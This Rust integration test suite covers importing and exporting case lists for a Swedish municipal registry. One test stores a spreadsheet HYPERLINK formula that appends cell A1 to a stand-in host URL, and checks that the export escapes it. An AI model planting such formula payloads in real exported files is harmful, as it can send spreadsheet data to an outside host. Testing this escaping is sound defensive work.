//! A list of old cases is brought in with its numbers, and the registry goes on after them.

use crate::world::{MIGRATIONS, OWN, REGISTRY_PAGE, World, content, registry};
use axum::http::StatusCode;
use futures_util::StreamExt;
use samverk_cases::actions::import_cases;
use samverk_cases::list_file::{COLUMNS, read_list};
use samverk_cases::{NumberShape, REGISTRY, RegistryDesk};
use samverk_county::{SYSTEM, key};
use samverk_database::Db;
use samverk_kept::Seen;

samverk_testing::db_tests!(MIGRATIONS;
    old_numbers_stay_and_the_next_goes_on,
    what_is_wrong_is_told_by_row_and_nothing_is_saved,
    what_was_fetched_is_brought_in_unchanged,
    a_list_may_lack_what_need_not_be_said,
    only_administrators_bring_in_lists,
    a_workbook_is_a_list_too,
    a_number_of_another_registry_is_refused_and_never_stops_one,
    numbers_that_are_passed_over_are_confirmed_first,
    what_a_stranger_writes_is_no_formula_in_the_list,
    a_list_is_fetched_however_it_is_packed,
);

const IMPORT: &str = "/aktorer/aneby-kommun/diarier/kommunstyrelsen/importera";
const LIST: &str = "/aktorer/aneby-kommun/diarier/kommunstyrelsen/lista.csv";

/// A row with what is said of it; the rest is empty.
fn row(said: &[(&str, &str)]) -> String {
    let cell = |column: &&'static str| {
        let said = said.iter().find(|(name, _)| name == column);
        match (said, *column) {
            (Some((_, text)), _) => (*text).to_owned(),
            (None, "subject") => "Gammalt ärende".to_owned(),
            (None, "begun") => "incoming".to_owned(),
            (None, "statutory") => "false".to_owned(),
            (None, "status") => "open".to_owned(),
            (None, _) => String::new(),
        }
    };
    let cells: Vec<String> = COLUMNS.iter().map(cell).collect();
    cells.join(",")
}

fn list(rows: &[String]) -> String {
    format!("{}\n{}\n", COLUMNS.join(","), rows.join("\n"))
}

async fn send(world: &World<'_>, list: &str) -> (StatusCode, String) {
    let who = world.administrator();
    world
        .send_file(&who, IMPORT, ("lista.csv", list.as_bytes()))
        .await
}

/// The same by somebody who has seen which numbers are passed over.
async fn send_confirmed(world: &World<'_>, list: &str) -> (StatusCode, String) {
    let body = format!(
        "--zebra\r\nContent-Disposition: form-data; name=\"confirmed\"\r\n\r\ntrue\r\n\
         --zebra\r\nContent-Disposition: form-data; name=\"file\"; filename=\"lista.csv\"\r\n\r\n{list}\r\n--zebra--\r\n"
    );
    let request = axum::http::Request::post(IMPORT)
        .header("content-type", "multipart/form-data; boundary=zebra")
        .body(axum::body::Body::from(body))
        .unwrap();
    world
        .site(&world.administrator())
        .send(request)
        .await
        .told()
}

async fn old_numbers_stay_and_the_next_goes_on(db: Db) {
    let world = World::of(&db).await;
    world.register(content("Redan här")).await;
    let rows = [
        row(&[("number", "2018.018 MN"), ("registered_on", "2018-03-05")]),
        row(&[
            ("number", "KS 2026/00040"),
            ("registered_on", "2026-11-02"),
            ("status", "closed"),
            ("closed_on", "2026-11-20"),
        ]),
        row(&[
            ("number", "KS 2026/00007"),
            ("registered_on", "2026-02-02"),
            ("status", "void"),
            ("void_reason", "Registrerat två gånger."),
        ]),
    ];
    let (status, told) = send_confirmed(&world, &list(&rows)).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
    let administrator = world.administrator();
    let page = world.house.page(&administrator, REGISTRY_PAGE).await;
    for number in [
        "2018.018 MN",
        "KS 2026/00040",
        "KS 2026/00007",
        "KS 2026/00001",
    ] {
        assert!(page.contains(number), "{number}: {page}");
    }
    let old = format!("{REGISTRY_PAGE}/arenden/2018-018-mn");
    let page = world.house.page(&administrator, &old).await;
    assert!(page.contains("Lästes in från en lista"), "{page}");
    let found = world
        .house
        .page(&administrator, &format!("{REGISTRY_PAGE}?sok=2018.018"))
        .await;
    assert!(found.contains("2018.018 MN"), "{found}");
    let next = world.register(content("Nästa")).await;
    assert_eq!(next.number, "KS 2026/00041");
    // Numbers that were passed over may come later, and the count of cases stays true.
    let late = [row(&[
        ("number", "KS 2026/00009"),
        ("registered_on", "2026-02-03"),
    ])];
    let (status, told) = send(&world, &list(&late)).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
    let client = crate::api::client(&db, world.registrar());
    let all = client.get(crate::api::CASES).await.told(200);
    assert_eq!(all.body["_meta"]["totalRecords"], 6);
    let next = world.register(content("Nästa igen")).await;
    assert_eq!(next.number, "KS 2026/00042");
}

async fn what_is_wrong_is_told_by_row_and_nothing_is_saved(db: Db) {
    let world = World::of(&db).await;
    world.register(content("Redan här")).await;
    for (wrong, expected) in [
        (
            vec![("number", "KS 26/7"), ("registered_on", "2026-02-02")],
            "KS 26/7 är inget diarienummer",
        ),
        (
            vec![("number", "KS 2026/00001"), ("registered_on", "2026-02-02")],
            "redan numret på ett ärende",
        ),
        (
            vec![("number", "2026:1"), ("registered_on", "2026-02-02")],
            "redan numret på ett ärende",
        ),
        (
            vec![("number", "KS 2026/00009"), ("registered_on", "2026-11-23")],
            "inte vara registrerat efter",
        ),
        (
            vec![("number", "KS 2025/00008"), ("registered_on", "2026-02-02")],
            "finns redan på rad 2",
        ),
        (
            vec![
                ("number", "KS 2026/00009"),
                ("registered_on", "2026-02-02"),
                ("status", "void"),
            ],
            "Skriv ett skäl",
        ),
        (
            vec![
                ("number", "KS 2026/00009"),
                ("registered_on", "2026-02-02"),
                ("officer", "ingen@exempel.se"),
            ],
            "ingen av aktörens personer",
        ),
        (
            vec![
                ("number", "KS 2026/00009"),
                ("registered_on", "2026-02-02"),
                ("secrecy_provision", "OSL 18:8"),
            ],
            "Fyll i alla tre",
        ),
    ] {
        let rows = [
            row(&[("number", "KS 2025/00008"), ("registered_on", "2025-02-02")]),
            row(&wrong),
        ];
        let (status, told) = send(&world, &list(&rows)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{wrong:?}");
        assert!(told.contains(expected), "{expected}: {told}");
        // The first cell of the row.
        assert!(told.contains(">3</t"), "{told}");
    }
    let page = world.house.page(&world.registrar(), REGISTRY_PAGE).await;
    assert!(!page.contains("KS 2025/00008"), "{page}");
    let (status, _) = send(&world, "").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let next = world.register(content("Nästa")).await;
    assert_eq!(next.number, "KS 2026/00002");
}

async fn what_was_fetched_is_brought_in_unchanged(db: Db) {
    let world = World::of(&db).await;
    world.officer("handlaggare@exempel.se").await;
    let mut one = content("Remiss, \"om\" målbild");
    one.officer = "handlaggare@exempel.se".into();
    one.deadline = "2026-12-18".parse().ok();
    world.register(one).await;
    let mut secret = content("Skyddad uppgift");
    secret.secrecy_provision = "OSL 18:8".into();
    secret.secrecy_on = "2026-11-22".parse().ok();
    secret.secrecy_authority = "Kommunstyrelsen".into();
    world.register(secret).await;
    let administrator = world.administrator();
    let all = world.site(&administrator).get(LIST).await;
    assert_eq!(all.status, StatusCode::OK);
    assert!(
        all.text.contains("Skyddad uppgift") && all.text.contains("OSL 18:8"),
        "{}",
        all.text
    );
    let (status, told) = send(&world, &all.text).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
    let again = world.site(&administrator).get(LIST).await;
    assert_eq!(again.text, all.text);
    // Others get what is nobody's secret, and strangers nothing.
    for who in [world.registrar(), world.reader()] {
        let open = world.site(&who).get(LIST).await.text;
        assert!(
            open.contains("målbild") && !open.contains("Skyddad"),
            "{open}"
        );
    }
    let other = world.site(&world.county.representative(1)).get(LIST).await;
    assert_eq!(other.status, StatusCode::NOT_FOUND);
    let changed = all.text.replace("målbild", "annat");
    let (status, _) = send(&world, &changed).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
}

async fn a_list_may_lack_what_need_not_be_said(db: Db) {
    let world = World::of(&db).await;
    let list = "registered_on;number;subject;status;begun\n2018-03-05;2018.018 MN;Yttrande;open;incoming\n";
    let (status, told) = send(&world, list).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
    let page = world.house.page(&world.registrar(), REGISTRY_PAGE).await;
    assert!(
        page.contains("2018.018 MN") && page.contains("Yttrande"),
        "{page}"
    );
    for (wrong, told) in [
        (
            list.replace("subject;", "").replace("Yttrande;", ""),
            "subject",
        ),
        (list.replace("subject", "zebra"), "zebra"),
    ] {
        let (status, page) = send(&world, &wrong).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(page.contains(told), "{told}: {page}");
    }
}

async fn only_administrators_bring_in_lists(db: Db) {
    let world = World::of(&db).await;
    let rows = [row(&[
        ("number", "KS 2025/00008"),
        ("registered_on", "2025-02-02"),
    ])];
    let list = list(&rows);
    for (who, expected) in [
        (world.registrar(), StatusCode::FORBIDDEN),
        (world.reader(), StatusCode::FORBIDDEN),
        (world.county.representative(1), StatusCode::FORBIDDEN),
    ] {
        let sent = ("lista.csv", list.as_bytes());
        let (status, _) = world.send_file(&who, IMPORT, sent).await;
        assert_eq!(status, expected);
    }
}

async fn a_workbook_is_a_list_too(db: Db) {
    let world = World::of(&db).await;
    let line = row(&[("number", "2018.018 MN"), ("registered_on", "2018-03-05")]);
    let cells = line.split(',').map(samverk_sheets::Cell::text).collect();
    let column =
        |name: &&'static str| samverk_sheets::Column::new(*name, samverk_sheets::Kind::Text);
    let sheet = samverk_sheets::Sheet {
        name: "Diarium".to_owned(),
        title: String::new(),
        columns: COLUMNS.iter().map(column).collect(),
        rows: vec![cells],
        totals: None,
    };
    let tx = db.read().await.unwrap();
    let book = samverk_sheets::write_xlsx(&[sheet], tx.now()).unwrap();
    drop(tx);
    let who = world.administrator();
    let (status, told) = world.send_file(&who, IMPORT, ("lista.xlsx", &book)).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
    let page = world.house.page(&who, REGISTRY_PAGE).await;
    assert!(page.contains("2018.018 MN"), "{page}");
}

async fn a_number_of_another_registry_is_refused_and_never_stops_one(db: Db) {
    let world = World::of(&db).await;
    let tx = db.begin("registry").await.unwrap();
    let owner = samverk_parties::Owner::seen_by(&SYSTEM, world.party(&tx).await);
    let social = registry("SN", NumberShape::CodeYearNumber);
    let kept = key("socialnamnden");
    let saved = REGISTRY.save(&tx, &SYSTEM, &owner, kept, &social, Seen::New);
    saved.await.unwrap();
    tx.commit().await.unwrap();
    // Into the social welfare committee's registry, with a number of the executive board's.
    let stray = [row(&[
        ("number", "KS 2026/00001"),
        ("registered_on", "2026-11-20"),
    ])];
    let stray = list(&stray);
    let there = IMPORT.replace("kommunstyrelsen", "socialnamnden");
    let who = world.administrator();
    let file = ("lista.csv", stray.as_bytes());
    let (status, told) = world.send_file(&who, &there, file).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        told.contains("KS 2026/00001 är ett nummer i diariet Kommunstyrelsen"),
        "{told}"
    );
    // One that stood there before keeps its number, and the registry goes on after it.
    let tx = db.begin("import_cases").await.unwrap();
    let found = RegistryDesk::find(&tx, &SYSTEM, OWN, "socialnamnden").await;
    let rows = read_list(stray.as_bytes(), "lista.csv", &[]).unwrap();
    let done = import_cases(&tx, &SYSTEM, &found.unwrap(), ("lista.csv", rows)).await;
    assert_eq!(done.unwrap().added, 1);
    tx.commit().await.unwrap();
    let next = world.register(content("Nästa")).await;
    assert_eq!(next.number, "KS 2026/00002");
    let client = crate::api::client(&db, world.registrar());
    let all = client.get(crate::api::CASES).await.told(200);
    assert_eq!(all.body["_meta"]["totalRecords"], 1);
}

async fn numbers_that_are_passed_over_are_confirmed_first(db: Db) {
    let world = World::of(&db).await;
    world.register(content("Redan här")).await;
    let slip = list(&[row(&[
        ("number", "KS 2026/90000"),
        ("registered_on", "2026-11-20"),
        ("status", "Pågår"),
    ])]);
    let (status, told) = send(&world, &slip).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    for known in ["hoppar över nummer", "90000", "89998", "name=\"confirmed\""] {
        assert!(
            told.replace(['\u{a0}', ' '], "")
                .contains(&known.replace(' ', "")),
            "{known}: {told}"
        );
    }
    let next = world.register(content("Nästa")).await;
    assert_eq!(next.number, "KS 2026/00002");
    let (status, told) = send_confirmed(&world, &slip).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
    let next = world.register(content("Nästa igen")).await;
    assert_eq!(next.number, "KS 2026/90001");
    let empty = format!("{}\n", COLUMNS.join(","));
    let (status, told) = send(&world, &empty).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(told.contains("bara rubriker"), "{told}");
}

async fn what_a_stranger_writes_is_no_formula_in_the_list(db: Db) {
    let world = World::of(&db).await;
    let mut one = content("'=1+1");
    one.counterpart = "=HYPERLINK(\"http://exempel.se\"&A1;\"Klicka\")".into();
    world.register(one).await;
    let who = world.administrator();
    let all = world.site(&who).get(LIST).await.text;
    assert!(
        all.contains("\"'=HYPERLINK(") && all.contains("''=1+1"),
        "{all}"
    );
    let (status, told) = send(&world, &all).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{told}");
    assert_eq!(world.site(&who).get(LIST).await.text, all);
}

async fn a_list_is_fetched_however_it_is_packed(db: Db) {
    let world = World::of(&db).await;
    world.register(content("Redan här")).await;
    let who = world.administrator();
    let request = axum::http::Request::get(LIST)
        .body(axum::body::Body::empty())
        .unwrap();
    let answer = world.site(&who).answer(request).await;
    let mut body = answer.into_body().into_data_stream();
    let mut ends = 0;
    // What packs an answer asks once more after its end.
    while ends < 3 {
        match body.next().await {
            Some(part) => assert!(part.is_ok()),
            None => ends += 1,
        }
    }
}
